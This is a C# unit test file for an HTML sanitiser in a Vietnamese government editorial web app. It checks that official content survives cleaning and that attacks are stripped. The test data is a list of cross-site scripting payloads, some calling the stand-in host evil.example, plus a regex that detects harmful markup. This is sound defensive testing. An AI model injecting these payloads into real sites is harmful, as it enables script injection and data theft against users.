using System.Text;
using System.Text.RegularExpressions;
using CsCheck;
using Governance.Web.Features.Editorial;

namespace Governance.Tests.Features.Editorial;

public sealed partial class SafeHtmlTests
{
    private static readonly string Sha = new('a', 64);
    private static readonly Gen<string> Corpus = Gen.Int[0, Attacks.Count - 1].Select(i => Attacks.ElementAt(i).Data);

    public static TheoryData<string> Attacks => new(
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>", "<img src=\"javascript:alert(1)\">", "<IMG SRC=JaVaScRiPt:alert(1)>", "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
        "<img src=https://evil.example/a.png alt=x>", "<img/src/onerror=alert(1)>", "<img src='/files/../dang-xuat' alt=x>",
        "<svg onload=alert(1)>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>", "<a href=\" vbscript:x\">x</a>",
        "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=https://a.example onclick=alert(1) target=_blank style=position:fixed>x</a>",
        "<iframe src=https://evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object>", "<embed src=x>",
        "<form action=https://evil.example><input name=p><button>x</button></form>", "<base href=https://evil.example>", "<meta http-equiv=refresh content=0>",
        "<link rel=stylesheet href=//evil.example>", "<style>@import '//evil.example'</style>", "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<video><source onerror=alert(1)></video>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<table background=javascript:alert(1)><tr><td>x</td></tr></table>", "<p><!--[if IE]><script>alert(1)</script><![endif]--></p>", "<template><script>alert(1)</script></template>",
        "<xmp><img src=x onerror=alert(1)></xmp>", "<textarea><img src=x onerror=alert(1)></textarea>", "<![CDATA[<img src=x onerror=alert(1)>]]>", "<p id=noi-dung class=x data-a=b>x</p>");

    [Theory, MemberData(nameof(Attacks))]
    public void No_attack_gets_through(string attack) => AssertHarmless(SafeHtml.Clean(attack));

    [Fact]
    public void No_mixture_of_attacks_gets_through() =>
        Corpus.List[1, 6].Sample(attacks =>
        {
            AssertHarmless(SafeHtml.Clean(string.Concat(attacks)));
            AssertHarmless(SafeHtml.Clean($"<table><tr><td>{string.Join("</p><p>", attacks)}"));
        }, iter: 500);

    [Theory]
    [InlineData("<h2>Mục 1</h2><p>Chữ <strong>đậm</strong> và <em>nghiêng</em>.</p>")]
    [InlineData("<ol start=\"3\"><li><p>Ba</p></li></ol><ul><li><p>Chấm</p></li></ul><blockquote><p>Trích</p></blockquote>")]
    [InlineData("<p><a href=\"https://daklak.gov.vn/a?b=1\">cổng</a> <a href=\"mailto:a@daklak.gov.vn\">thư</a> <a href=\"tel:02623\">máy</a></p>")]
    [InlineData("<table><tbody><tr><th scope=\"col\"><p>Xã</p></th></tr><tr><td colspan=\"2\"><p>Ea Kao</p></td></tr></tbody></table>")]
    [InlineData("<figure><img src=\"/files/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\" alt=\"Lớp học\" width=\"800\" height=\"600\"><figcaption>Ảnh</figcaption></figure>")]
    public void What_an_official_writes_is_kept_as_it_is(string html) => Assert.Equal(html, SafeHtml.Clean(html));

    [Fact]
    public void Word_paste_becomes_plain_elements() =>
        Assert.Equal("<h2>Tiêu đề</h2><p>Nội <strong>dung</strong></p>",
            SafeHtml.Clean("<h1 class=MsoTitle>Tiêu đề<o:p></o:p></h1><style>p{}</style><p class=MsoNormal style='margin:0'><span lang=VI>Nội <b style='x'>dung</b></span></p>"));

    [Fact]
    public void Text_is_stored_composed() =>
        Assert.Equal("<p>Đắk Lắk ễ</p>".Normalize(NormalizationForm.FormC), SafeHtml.Clean("<p>Đắk Lắk ễ</p>".Normalize(NormalizationForm.FormD)));

    [Fact]
    public void Clean_twice_is_clean_once() =>
        Corpus.List[1, 4].Sample(attacks =>
        {
            var once = SafeHtml.Clean(string.Concat(attacks));
            Assert.Equal(once, SafeHtml.Clean(once));
        }, iter: 300);

    [Fact]
    public void Whose_a_picture_is_stays_with_it_and_is_text_only()
    {
        var safe = SafeHtml.Clean($"<figure><img src=\"/files/{Sha}\" alt=\"Lớp học\" data-owner=\"Sở &quot;A&quot; &lt;script&gt;\" data-licence=\"tự chụp\" data-x=\"1\"></figure>");
        Assert.Equal(("Sở \"A\" <script>", "tự chụp"), SafeHtml.Pictures(safe).Select(p => (p.Owner, p.Licence)).Single());
        Assert.DoesNotContain("data-x", safe);
        Assert.Equal(safe, SafeHtml.Clean(safe));
    }

    [Fact]
    public void Pictures_are_found_with_their_alternative_text_and_caption() =>
        Assert.Equal([new BodyPicture(Sha, "Lớp học", "Ảnh: Sở"), new BodyPicture(Sha, "", "")],
            SafeHtml.Pictures($"<figure><img src=\"/files/{Sha}\" alt=\"Lớp học\"><figcaption>Ảnh: Sở</figcaption></figure><p><img src=\"/files/{Sha}\"></p>"));

    [Fact]
    public void Plain_paragraphs_come_back_as_they_were() =>
        Assert.Equal("Một <hai>\n\nBa & bốn", SafeHtml.ToPlain(SafeHtml.FromPlain("Một <hai>\r\n\r\n\r\n\r\nBa & bốn")));

    private static void AssertHarmless(string clean)
    {
        Assert.DoesNotMatch(Harm(), clean);
        foreach (Match tag in AnyTag().Matches(clean))
            Assert.Contains(tag.Groups[1].Value, (string[])["p", "br", "hr", "h2", "h3", "h4", "strong", "em", "ul", "ol", "li", "blockquote", "a", "table", "thead", "tbody", "tr", "th", "td", "figure", "img", "figcaption"]);
    }

    [GeneratedRegex("<[^>]*(\\son\\w+\\s*=|javascript:|vbscript:|data:|\\sstyle=|\\sclass=|\\sid=|evil|srcdoc)", RegexOptions.IgnoreCase)]
    private static partial Regex Harm();

    [GeneratedRegex("</?([a-zA-Z][^\\s/>]*)")]
    private static partial Regex AnyTag();
}
